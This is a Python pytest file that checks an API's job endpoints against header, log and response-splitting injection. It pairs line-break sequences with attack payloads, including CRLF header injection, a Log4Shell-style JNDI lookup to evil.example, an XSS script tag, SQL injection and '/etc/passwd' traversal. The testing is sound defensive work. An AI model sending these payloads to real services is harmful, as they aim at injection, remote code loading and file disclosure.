"""Strings that try to become headers, log lines or other requests stay what they are: data."""

import itertools
import json

import pytest

from testing.api import logged_lines, running_api
from testing.builders import full_job

BREAKS = (
    "\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
    "%0d%0a", "%0a", "%E5%98%8A%E5%98%8D", "\\r\\n", "\x00", "嘊嘍",
)  # fmt: skip
PAYLOADS = (
    "Set-Cookie: a=b",
    "Location: https://evil.example",
    "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "X-Request-Id: forged",
    '{"level":"ERROR","message":"forged"}',
    '","level":"CRITICAL","message":"forged',
    "END RequestId: forged",
    "<script>alert(1)</script>",
    '>; rel="next", <https://evil.example',
    "${jndi:ldap://evil.example/a}",
    "' OR '1'='1",
    "\x1b[31mforged\x1b[0m",
    "../../../etc/passwd",
)
STRINGS = ["a" + "".join(pair) for pair in itertools.product(BREAKS, PAYLOADS)]


def test_there_are_two_hundred_of_them():
    assert len(set(STRINGS)) >= 200


@pytest.fixture(scope="module")
def api():
    with running_api() as running:
        running.fill(full_job(1), full_job(2))
        running.mark_synced()
        yield running


@pytest.fixture
def logged():
    with logged_lines() as lines:
        yield lines


@pytest.mark.row(19, count="221 strings, in 10 places")
@pytest.mark.parametrize("text", STRINGS, ids=ascii)
def test_a_string_stays_data_wherever_it_is_sent(api, logged, text):
    answers = [
        *(
            api.get("/jobs", **{name: text})
            for name in ("JobName", "NextToken", "Family", "Format")
        ),
        api.get("/jobs", **{text: "1"}),
        api.get(f"/jobs/{text}"),
        api.get(f"/{text}"),
        api.call("/jobs", headers={"Accept": text, "Accept-Encoding": text, text: text}),
        api.call("/digests", method="POST", headers={"Idempotency-Key": text}, body=text),
        api.call("/digests", method="POST", body=json.dumps({"WindowStart": text, text: text})),
    ]
    for answer in answers:
        assert 200 <= answer.status < 500
        for name, value in answer.headers.items():
            assert (name + value).isascii()
            assert (name + value).isprintable()
            assert "forged" not in value
            assert "evil" not in value
        if answer.status >= 400:
            json.loads(answer.body)
    for line in logged:
        assert "forged" not in line
        assert "evil" not in line
        assert len(line.splitlines()) == 1
        json.loads(line)


@pytest.mark.parametrize(
    "name", ['a>; rel="x"'.replace(">", "%3E"), "a b", "ünï", "\u2028", "a+b=c@d%"]
)
def test_a_name_in_a_link_is_percent_encoded(name):
    legal = name.replace(";", "").replace('"', "")
    with running_api() as api:
        api.fill(full_job(1, JobName=legal), full_job(2, JobName=legal))
        link = api.get("/jobs", JobName=legal, MaxResults=1).headers["Link"]
    target = link.removeprefix("<").removesuffix('>; rel="next"')
    assert link == f'<{target}>; rel="next"'
    assert not set(target) & set('<>" \\')
    assert target.isascii()
